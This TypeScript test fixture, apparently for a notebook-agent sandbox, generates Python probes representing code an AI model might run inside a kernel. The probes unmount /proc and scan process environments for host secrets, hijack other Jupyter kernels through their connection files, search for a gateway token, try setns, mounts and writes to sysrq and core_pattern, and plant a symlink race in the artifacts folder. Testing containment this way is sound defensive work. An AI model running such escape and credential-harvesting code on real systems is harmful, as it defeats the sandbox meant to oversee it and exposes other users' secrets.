/**
 * The attacks, as Python a model could write in a kernel. Each prints `ATTACK <name>: blocked …` or
 * `ATTACK <name>: ESCAPED …` (see harness.ts). A probe that raises something unexpected prints no
 * verdict, which the tests count as a failure: a bug in a snippet never reads as "blocked".
 *
 * Nothing here does harm if it succeeds: files under /proc/sys, /proc/sysrq-trigger and /sys are
 * only opened for writing, never written; mounts happen in the kernel's own mount namespace; no
 * process outside the kernel is ever signalled or traced.
 */

/** A Python bytes literal for `s` that does not spell `s` in the source (a traceback cannot leak it). */
export function hidden(s: string): string {
  return `bytes.fromhex(${JSON.stringify(Buffer.from(s).toString("hex"))})`;
}

const PRELUDE = `
import ctypes, errno, os, sys
_libc = ctypes.CDLL(None, use_errno=True)
def verdict(name, escaped, detail=""):
    print("ATTACK %s: %s %s" % (name, "ESCAPED" if escaped else "blocked", detail), flush=True)
def err(n=None):
    n = ctypes.get_errno() if n is None else n
    return errno.errorcode.get(n, str(n))
`;

/**
 * 1. `umount2("/proc", MNT_DETACH)` in the kernel itself, then every /proc/<pid>/environ and
 * cmdline (JPY_PARENT_PID's first) searched for the host's secrets.
 */
export function umountThenEnviron(secrets: string[]): string {
  return `${PRELUDE}
rc = _libc.umount2(b"/proc", 2)
verdict("umount-proc", rc == 0, "umount2 returned 0" if rc == 0 else err())
needles = [${secrets.map(hidden).join(", ")}]
pids = [p for p in os.listdir("/proc") if p.isdigit()]
paths = ["/proc/%s/environ" % os.environ.get("JPY_PARENT_PID", "0"), "/proc/self/environ"]
paths += ["/proc/%s/%s" % (p, f) for p in pids for f in ("environ", "cmdline")]
found = []
for path in paths:
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        continue
    if any(n in data for n in needles):
        found.append(path)
verdict("proc-secret", bool(found), "secret in %s; %d pids visible" % (sorted(set(found))[:4], len(pids)))
`;
}

/**
 * 2. Other kernels' connection files under the state directory: list them, and for each one
 * jupyter_client can load, execute `repr(<variable>)` in that kernel.
 */
export function hijackKernels(state: string, variable: string): string {
  return `${PRELUDE}
import json
state = ${JSON.stringify(state)}
try:
    from ipykernel.connect import get_connection_file
    own = os.path.realpath(get_connection_file())
except Exception:
    own = ""
stem = os.path.basename(own)[:-5] if own.endswith(".json") else "\\0"
# The kernel's own unix-socket folder (ipc transport) is its own too.
own_dirs = set()
try:
    with open(own) as f:
        info = json.load(f)
    if info.get("transport") == "ipc":
        own_dirs.add(os.path.realpath(os.path.dirname(info["ip"])))
except (OSError, ValueError, KeyError):
    pass
mine = lambda p: os.path.realpath(p) in own_dirs or any(os.path.realpath(p).startswith(d + "/") for d in own_dirs)
others, walk_errors = [], []
for root, dirs, files in os.walk(os.path.join(state, "kernels"), onerror=lambda e: walk_errors.append(err(e.errno))):
    others += [os.path.join(root, n) for n in dirs + files if not n.startswith(stem) and not mine(os.path.join(root, n))]
verdict("kernels-dir", bool(others), "lists %d other entries %s; walk errors %s" % (len(others), [os.path.basename(p) for p in others[:3]], walk_errors))
files = []
for root, dirs, names in os.walk(state):
    for n in names:
        p = os.path.join(root, n)
        if n.endswith(".json") and os.path.realpath(p) != own:
            try:
                with open(p) as f:
                    info = json.load(f)
            except (OSError, ValueError):
                continue
            if isinstance(info, dict) and "key" in info and "shell_port" in info:
                files.append(p)
from jupyter_client import BlockingKernelClient
got, failures = [], []
for p in files:
    kc = BlockingKernelClient()
    out = []
    try:
        kc.load_connection_file(p)
        kc.start_channels()
        kc.wait_for_ready(timeout=10)
        kc.execute_interactive(${JSON.stringify(`print('VALUE', repr(globals().get(${JSON.stringify(variable)})))`)}, timeout=10,
                               output_hook=lambda m: out.append(m.get("content", {}).get("text", "")))
    except Exception as e:
        failures.append(type(e).__name__)
    finally:
        kc.stop_channels()
    text = "".join(out)
    if "VALUE" in text and "VALUE None" not in text:
        got.append(text.strip())
verdict("hijack", bool(got), "read %s through %d connection files (%d failed: %s)" % (got, len(files), len(failures), failures))
`;
}

/**
 * 3. The shared local gateway's token (the needle; the test read it from info.json): info.json
 * opened, and the token searched in the environment, every file under the state directory and every
 * /proc/*\/cmdline and environ.
 */
export function gatewayToken(state: string, infoFile: string, token: string): string {
  return `${PRELUDE}
needle = ${hidden(token)}
try:
    with open(${JSON.stringify(infoFile)}, "rb") as f:
        f.read()
    verdict("gateway-info", True, "info.json read")
except OSError as e:
    verdict("gateway-info", False, err(e.errno))
hits = ["env:" + k for k, v in os.environ.items() if needle in v.encode()]
for root, dirs, files in os.walk(${JSON.stringify(state)}):
    for n in files:
        p = os.path.join(root, n)
        try:
            with open(p, "rb") as f:
                if needle in f.read():
                    hits.append(p)
        except OSError:
            pass
for p in [p for p in os.listdir("/proc") if p.isdigit()]:
    for what in ("cmdline", "environ"):
        try:
            with open("/proc/%s/%s" % (p, what), "rb") as f:
                if needle in f.read():
                    hits.append("/proc/%s/%s" % (p, what))
        except OSError:
            pass
verdict("gateway-token", bool(hits), "token found in %s" % hits[:4])
`;
}

/** What the system probe should try besides the always-on attacks. */
export interface ProbeOptions {
  /** The sandbox is on: writing /var/tmp must fail. */
  sandbox: boolean;
  /** net-off: connecting to this port on 127.0.0.1 (a server the test opened) must fail. */
  port?: number;
}

/** The names the system probe prints for these options. */
export function probeNames(o: ProbeOptions): string[] {
  return [
    "caps-kernel",
    "caps-exec",
    "host-pid1",
    "setns-net",
    "setns-mnt",
    "proc-sys-write",
    "sysrq-write",
    "sys-write",
    ...(o.sandbox ? ["var-tmp-write"] : []),
    ...(o.port !== undefined ? ["connect-host"] : []),
    "mount-tmpfs",
    "remount-root-rw",
    "umount-proc",
  ];
}

/**
 * 4. The system attacks, in a fresh interpreter the kernel starts (what any kernel code can exec:
 * capabilities regained by execve as root count), each privileged call in a forked child so one
 * success does not change the next probe; the mount attacks last (they change the shared mount
 * namespace). The kernel's own capabilities are checked in the kernel process too.
 */
export function systemProbe(o: ProbeOptions): string {
  const script = String.raw`
import ctypes, errno, os, socket, sys, tempfile
_libc = ctypes.CDLL(None, use_errno=True)
_libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong, ctypes.c_void_p]
def verdict(name, escaped, detail=""):
    print("ATTACK %s: %s %s" % (name, "ESCAPED" if escaped else "blocked", detail), flush=True)
def err(n=None):
    n = ctypes.get_errno() if n is None else n
    return errno.errorcode.get(n, str(n))
def forked(name, fn):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            escaped, detail = fn()
            os.write(w, ("%d %s" % (escaped, detail)).encode())
        except BaseException as e:
            os.write(w, ("E %s: %s" % (type(e).__name__, e)).encode())
        os._exit(0)
    os.close(w)
    data = b""
    while True:
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    os.waitpid(pid, 0)
    flag, _, detail = data.decode().partition(" ")
    if flag == "E":
        print("PROBE-ERROR %s: %s" % (name, detail), flush=True)
    else:
        verdict(name, flag == "1", detail)
def caps():
    status = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
    vals = {k: int(status[k].strip(), 16) for k in ("CapEff", "CapPrm", "CapBnd")}
    return any(vals.values()), " ".join("%s=%x" % kv for kv in vals.items())
def host_pid1():
    try:
        mine, theirs = os.readlink("/proc/self/ns/pid"), os.readlink("/proc/1/ns/pid")
    except OSError as e:
        return False, "cannot compare: " + err(e.errno)
    return mine != theirs, "pid 1 is in %s, this process in %s" % (theirs, mine)
def setns(kind, flag):
    def run():
        try:
            fd = os.open("/proc/1/ns/" + kind, os.O_RDONLY)
        except OSError as e:
            return False, "open: " + err(e.errno)
        rc = _libc.setns(fd, flag)
        return rc == 0, "setns returned 0" if rc == 0 else err()
    return run
def open_for_write(paths):
    def run():
        opened, refused = [], []
        for p in paths:
            try:
                fd = os.open(p, os.O_WRONLY)
            except OSError as e:
                refused.append("%s %s" % (p, err(e.errno)))
                continue
            os.close(fd)  # nothing is written
            opened.append(p)
        return bool(opened), "opened for writing: %s; refused: %s" % (opened, refused)
    return run
def var_tmp():
    p = "/var/tmp/nbagent-attack-%d" % os.getpid()
    try:
        fd = os.open(p, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    except OSError as e:
        return False, err(e.errno)
    os.close(fd)
    os.unlink(p)
    return True, "created " + p
def connect(port):
    def run():
        s = socket.socket()
        s.settimeout(5)
        try:
            s.connect(("127.0.0.1", port))
        except OSError as e:
            return False, type(e).__name__
        finally:
            s.close()
        return True, "connected to 127.0.0.1:%d" % port
    return run
def mount_tmpfs():
    d = tempfile.mkdtemp(dir=".", prefix=".attack-mnt-")
    try:
        rc = _libc.mount(b"none", d.encode(), b"tmpfs", 0, None)
        if rc == 0:
            _libc.umount2(d.encode(), 2)
            return True, "mounted a tmpfs"
        return False, err()
    finally:
        os.rmdir(d)
def remount_root():
    rc = _libc.mount(None, b"/", None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND, not MS_RDONLY
    return rc == 0, "mount returned 0" if rc == 0 else err()
def umount_proc():
    rc = _libc.umount2(b"/proc", 2)
    return rc == 0, "umount2 returned 0" if rc == 0 else err()
SYS = [p for p in ("/sys/kernel/uevent_helper", "/sys/kernel/profiling", "/sys/kernel/rcu_expedited", "/sys/fs/cgroup/cgroup.procs") if os.path.exists(p)]
forked("caps-exec", caps)
forked("host-pid1", host_pid1)
forked("setns-net", setns("net", 0x40000000))
forked("setns-mnt", setns("mnt", 0x00020000))
forked("proc-sys-write", open_for_write(["/proc/sys/kernel/core_pattern"]))
forked("sysrq-write", open_for_write(["/proc/sysrq-trigger"]))
forked("sys-write", open_for_write(SYS))
if ${o.sandbox ? "True" : "False"}:
    forked("var-tmp-write", var_tmp)
if ${o.port ?? 0}:
    forked("connect-host", connect(${o.port ?? 0}))
forked("mount-tmpfs", mount_tmpfs)
forked("remount-root-rw", remount_root)
forked("umount-proc", umount_proc)
`;
  return `${PRELUDE}
import subprocess
status = dict(l.split(":\\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\\t" in l)
vals = {k: int(status[k].strip(), 16) for k in ("CapEff", "CapPrm", "CapBnd")}
verdict("caps-kernel", any(vals.values()), " ".join("%s=%x" % kv for kv in vals.items()))
r = subprocess.run([sys.executable, "-c", ${JSON.stringify(script)}], capture_output=True, text=True)
print(r.stdout, end="")
if r.returncode:
    print("PROBE-EXIT", r.returncode, r.stderr)
`;
}

/**
 * 5. Symlinks planted in the session's artifacts folder: `x.log` → the outside file, and, as soon as
 * the host creates this call's artifact, `<id>.incomplete` → the outside file and `<id>.log`
 * swapped for a link to it; meanwhile the cell prints enough to spill.
 */
export function plantArtifactLinks(outside: string): string {
  return `${PRELUDE}
import threading, time
A = os.environ["NBAGENT_ARTIFACTS"]
OUT = ${JSON.stringify(outside)}
os.makedirs(A, exist_ok=True)
os.symlink(OUT, os.path.join(A, "x.log"))
before = set(os.listdir(A))
planted = []
def watch():
    while not planted:
        for n in os.listdir(A):
            p = os.path.join(A, n)
            if n.endswith(".log") and n not in before and not os.path.islink(p):
                stem = n[:-4]
                os.symlink(OUT, os.path.join(A, stem + ".incomplete"))
                os.symlink(OUT, os.path.join(A, stem + ".swap"))
                os.rename(os.path.join(A, stem + ".swap"), p)
                planted.append(stem)
                return
        time.sleep(0.01)
threading.Thread(target=watch, daemon=True).start()
line = "y" * 999
for i in range(50000):
    if planted:
        break
    print(line)
for i in range(200):
    print(line)
print("PLANTED", planted)
`;
}
